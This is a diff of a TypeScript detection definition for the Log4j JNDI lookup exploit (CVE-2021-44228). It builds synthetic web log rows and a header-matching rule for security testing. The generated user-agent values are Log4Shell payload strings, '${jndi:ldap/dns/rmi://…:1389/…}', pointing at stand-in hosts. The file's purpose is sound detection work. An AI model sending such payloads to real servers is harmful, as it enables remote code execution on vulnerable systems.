@@ -1,62 +1,67 @@
 /** A header asks a vulnerable Java logger to fetch code (CVE-2021-44228). */
-import { detection, many } from "./shared/define.ts";
-import { web } from "./shared/web.ts";
-import { documentationAddress, victimSites } from "./shared/words.ts";
+import { detection, many } from './shared/define.ts';
+import { visits, web } from './shared/web.ts';
+import { documentationAddress, victimSites } from './shared/words.ts';
 
 export const jndiLookup = detection({
-  name: "jndi-lookup",
-  category: "exploit",
-  telemetry: "network",
-  transport: "tcp",
-  direction: "inbound",
-  trigger: "initiator",
+  name: 'jndi-lookup',
+  category: 'exploit',
+  telemetry: 'network',
+  transport: 'tcp',
+  direction: 'inbound',
+  trigger: 'initiator',
   attack: {
-    tactics: ["Initial Access"],
-    technique: "T1190",
-    techniqueName: "Exploit Public-Facing Application",
+    tactics: ['Initial Access'],
+    technique: 'T1190',
+    techniqueName: 'Exploit Public-Facing Application',
   },
   usm: {
-    intent: "Exploitation & Installation",
-    strategy: "Code Execution",
-    method: "Log4j JNDI Lookup",
-    dictionary: "SuricataExploitRules-Dict",
+    intent: 'Exploitation & Installation',
+    strategy: 'Code Execution',
+    method: 'Log4j JNDI Lookup',
+    dictionary: 'SuricataExploitRules-Dict',
   },
   alarms: [
     {
       id: 58601,
-      shortName: "jndi-ldap",
-      name: "EXPLOIT - JNDI lookup over LDAP in header",
-      severity: "critical",
+      shortName: 'jndi-ldap',
+      name: 'EXPLOIT - JNDI lookup over LDAP in header',
+      severity: 'critical',
       sid: 1000071,
       weight: 110,
-      scheme: "ldap",
+      scheme: 'ldap',
     },
     {
       id: 58602,
-      shortName: "jndi-dns",
-      name: "EXPLOIT - JNDI lookup over DNS in header",
-      severity: "high",
+      shortName: 'jndi-dns',
+      name: 'EXPLOIT - JNDI lookup over DNS in header',
+      severity: 'high',
       sid: 1000072,
       weight: 54,
-      scheme: "dns",
+      scheme: 'dns',
     },
     {
       id: 58603,
-      shortName: "jndi-rmi",
-      name: "EXPLOIT - JNDI lookup over RMI in header",
-      severity: "critical",
+      shortName: 'jndi-rmi',
+      name: 'EXPLOIT - JNDI lookup over RMI in header',
+      severity: 'critical',
       sid: 1000073,
       weight: 27,
-      scheme: "rmi",
+      scheme: 'rmi',
     },
   ],
   variants: (row, chance) =>
     many(8, () =>
       web({
         host: chance.pick(victimSites),
-        uri: chance.pick(["/", "/login", "/api/v1/status", "/solr/admin/cores"]),
+        uri: chance.pick(['/', '/login', '/api/v1/status', '/solr/admin/cores']),
         agent: `\${jndi:${row.scheme}://${documentationAddress(chance)}:1389/${chance.hex(6)}}`,
         status: chance.pick([200, 404]),
       }),
     ),
+  flows: (_row, sighting) => visits(sighting, 'inbound', 'initiator'),
+  rule: (row) => ({
+    protocol: 'http',
+    contents: [{ in: 'http.header', text: `\${jndi:${row.scheme}://`, nocase: true }],
+  }),
 });
